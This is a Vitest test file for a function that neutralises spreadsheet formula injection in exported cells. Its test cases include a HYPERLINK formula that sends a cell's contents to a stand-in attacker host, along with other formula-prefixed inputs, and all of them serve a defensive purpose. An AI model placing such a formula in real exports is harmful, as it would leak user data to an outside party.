import { describe, expect, it } from 'vitest';
import { neutraliseFormula } from '../../../src/domain/export/spreadsheet-cell.ts';

describe('neutraliseFormula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
    ['+1+1', `'+1+1`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['\n=1+1', `'\n=1+1`],
    ['\0=1', `'\0=1`],
    ['＝1+1', `'＝1+1`],
    ['＠SUM(A1)', `'＠SUM(A1)`],
  ])('quotes %j', (cell, expected) => {
    expect(neutraliseFormula(cell)).toBe(expected);
  });

  it.each([
    ['', ''],
    ['SENIOR', 'SENIOR'],
    ['2026-11-03T18:00:00.000Z', '2026-11-03T18:00:00.000Z'],
    ['U0ANA', 'U0ANA'],
    ['a=b', 'a=b'],
    [' =1+1', ' =1+1'],
    ["'already quoted", "'already quoted"],
    ['0', '0'],
  ])('leaves %j as it is', (cell, expected) => {
    expect(neutraliseFormula(cell)).toBe(expected);
  });
});
